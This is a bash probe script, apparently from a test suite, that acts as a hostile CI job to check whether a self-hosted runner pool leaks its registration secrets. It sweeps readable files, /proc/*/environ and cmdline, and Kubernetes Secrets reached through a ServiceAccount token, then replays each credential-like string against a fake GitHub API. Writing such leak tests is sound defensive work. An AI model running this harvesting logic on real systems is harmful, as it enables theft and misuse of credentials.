#!/usr/bin/env bash
# A job that tries to steal its pool's registration (tests/node/test_registration_secrets.py).
#
#   steal-probe.sh WEB_URL [KUBERNETES_API_URL]
#
# WEB_URL is the pool's repository on the fake GitHub (http://HOST:PORT/OWNER/REPO). Run as a
# job's steps, it reads everything it can reach from the runner container: every readable file
# under / (not /proc, /sys, /dev, nor ELF binaries, which hold no secret), the environment and
# command line of every process it may read (/proc/*/environ, /proc/*/cmdline), and, with the
# pod's ServiceAccount token if it has one, the Secrets the Kubernetes API lets it list. Every
# string that could be a credential (20 or more characters of token alphabet) is tried, as an
# attacker would:
#   - as a registration token (POST {api}/actions/runner-registration, what config.sh does);
#   - as a GitHub API credential (POST {api}/repos/OWNER/REPO/actions/runners/registration-token);
#   - as a JIT runner config (decoded, its runner credential opening a listener session:
#     what run.sh --jitconfig does).
# Any of them accepted is a runner the attacker registered: the probe prints where it found the
# string (never the string) and exits 1, so the job fails. Otherwise it prints what it tried
# (also to $GITHUB_STEP_SUMMARY, the job's summary) and exits 0. Only bash, curl and coreutils. PROBE_ROOT (default /) is where the file walk starts,
# and PROBE_PROC (default /proc) the processes it reads: unit tests point them elsewhere.

set +x
set -uo pipefail
shopt -s nullglob globstar dotglob

target="${1:?usage: steal-probe.sh WEB_URL [KUBERNETES_API_URL]}"
kube_api="${2:-}"
root="${PROBE_ROOT:-}"
procfs="${PROBE_PROC:-/proc}"
[[ "${target}" =~ ^(https?)://([^/]+)/([^/]+/[^/]+)$ ]] || { echo "probe: WEB_URL must be http(s)://HOST/OWNER/REPO" >&2; exit 2; }
api="${BASH_REMATCH[1]}://${BASH_REMATCH[2]}/api/v3"
repo="${BASH_REMATCH[3]}"
scratch="$(mktemp -d)"
trap 'rm -rf "${scratch}"' EXIT
words="${scratch}/words"
: >"${words}"

# words_of SOURCE FILE: the file's credential-like strings, each tagged with where it came from
# (a NAME=VALUE word gives its VALUE too: '=' stays in words for base64's padding).
words_of() {
    local source="$1" word value
    while IFS= read -r word; do
        for value in "${word}" "${word#*=}"; do
            ((${#value} >= 20 && ${#value} <= 16384)) && printf '%s\t%s\n' "${value}" "${source}"
        done
    done < <(tr -cs 'A-Za-z0-9_.=+/-' '\n' <"$2" 2>/dev/null | sort -u) >>"${words}"
}

files=0
for top in "${root}"/*; do
    case "${top#"${root}"}" in /proc | /sys | /dev) continue ;; esac
    for file in "${top}" "${top}"/**; do
        [[ -f "${file}" && -r "${file}" ]] || continue
        [[ "$(head -c 4 "${file}" 2>/dev/null | tr -d '\0')" == $'\x7fELF' ]] && continue
        words_of "${file}" "${file}"
        files=$((files + 1))
    done
done
processes=0
for proc in "${procfs}"/[0-9]*; do
    for part in environ cmdline; do
        if [[ -r "${proc}/${part}" ]] && head -c 1 "${proc}/${part}" >/dev/null 2>&1; then
            words_of "${proc}/${part}" "${proc}/${part}"
        fi
    done
    processes=$((processes + 1))
done

kube="no ServiceAccount token"
sa=/var/run/secrets/kubernetes.io/serviceaccount
if [[ -r "${sa}/token" ]]; then
    kube_api="${kube_api:-https://${KUBERNETES_SERVICE_HOST:-kubernetes.default.svc}:${KUBERNETES_SERVICE_PORT:-443}}"
    namespace="$(cat "${sa}/namespace")"
    kube=""
    for path in "/api/v1/namespaces/${namespace}/secrets" /api/v1/secrets "/api/v1/namespaces/${namespace}/pods"; do
        printf 'header = "Authorization: Bearer %s"\n' "$(cat "${sa}/token")" |
            curl --silent --config - --cacert "${sa}/ca.crt" --max-time 10 --output "${scratch}/kube" \
                --write-out '%{http_code}' "${kube_api}${path}" >"${scratch}/kube.code" 2>/dev/null
        kube+="GET ${path}: HTTP $(cat "${scratch}/kube.code"); "
        [[ -f "${scratch}/kube" ]] && words_of "kubernetes API ${path}" "${scratch}/kube"
        rm -f "${scratch}/kube"
    done
fi

# post URL AUTHORIZATION [curl options...]: the HTTP status (000: no answer); body in $scratch/body.
post() {
    local url="$1" authorization="$2"
    shift 2
    printf 'header = "Authorization: %s"\n' "${authorization}" |
        curl --silent --config - --max-time 10 --request POST --output "${scratch}/body" \
            --write-out '%{http_code}' "$@" "${url}" 2>/dev/null
}

# json_field KEY JSON: a string field of a flat JSON object.
json_field() {
    local pattern="\"$1\"[[:space:]]*:[[:space:]]*\"([^\"]*)\""
    [[ "$2" =~ ${pattern} ]] && printf '%s' "${BASH_REMATCH[1]}"
}

# as_jitconfig WORD: 0 when WORD is a JIT config whose runner credential opens a session.
as_jitconfig() {
    local decoded runner credentials service credential
    decoded="$(printf '%s' "$1" | base64 -d 2>/dev/null | tr -d '\0')" || return 1
    runner="$(json_field .runner "${decoded}")" || return 1
    credentials="$(json_field .credentials "${decoded}")" || return 1
    service="$(printf '%s' "${runner}" | base64 -d 2>/dev/null | tr -d '\0')"
    credential="$(printf '%s' "${credentials}" | base64 -d 2>/dev/null | tr -d '\0')"
    [[ "${service}" =~ service=([^[:space:]]+) ]] || return 1
    service="${BASH_REMATCH[1]}"
    [[ "${credential}" =~ credential=([^[:space:]]+) ]] || return 1
    [[ "$(post "${service}/sessions" "Bearer ${BASH_REMATCH[1]}")" == 201 ]]
}

sort -u -t $'\t' -k1,1 "${words}" >"${scratch}/unique"
tried=0 stolen=0 jit_like=0
while IFS=$'\t' read -r word source; do
    tried=$((tried + 1))
    status="$(post "${api}/actions/runner-registration" "RemoteAuth ${word}" \
        --header "Content-Type: application/json" --data "{\"url\": \"${target}\", \"runner_event\": \"register\"}")"
    if [[ "${status}" == 200 ]]; then
        echo "probe: STOLEN: a registration token, from ${source}" | tee -a "${GITHUB_STEP_SUMMARY:-/dev/null}"
        stolen=$((stolen + 1))
    fi
    status="$(post "${api}/repos/${repo}/actions/runners/registration-token" "token ${word}")"
    if [[ "${status}" == 201 ]]; then
        echo "probe: STOLEN: a GitHub API credential that issues registration tokens, from ${source}" |
            tee -a "${GITHUB_STEP_SUMMARY:-/dev/null}"
        stolen=$((stolen + 1))
    fi
    if printf '%s' "${word}" | base64 -d 2>/dev/null | tr -d '\0' | head -c 4096 | tr -d '\n' | {
        read -r text
        [[ "${text}" == *'".credentials"'* ]]
    }; then
        jit_like=$((jit_like + 1))
        if as_jitconfig "${word}"; then
            echo "probe: STOLEN: a JIT runner config that still runs, from ${source}" |
                tee -a "${GITHUB_STEP_SUMMARY:-/dev/null}"
            stolen=$((stolen + 1))
        fi
    fi
done <"${scratch}/unique"
{
    echo "probe: read ${files} files and ${processes} processes; kubernetes: ${kube:-none}"
    echo "probe: tried ${tried} strings (${jit_like} JIT runner configs); ${stolen} registered a runner"
} | tee -a "${GITHUB_STEP_SUMMARY:-/dev/null}"
[[ "${stolen}" -eq 0 ]]
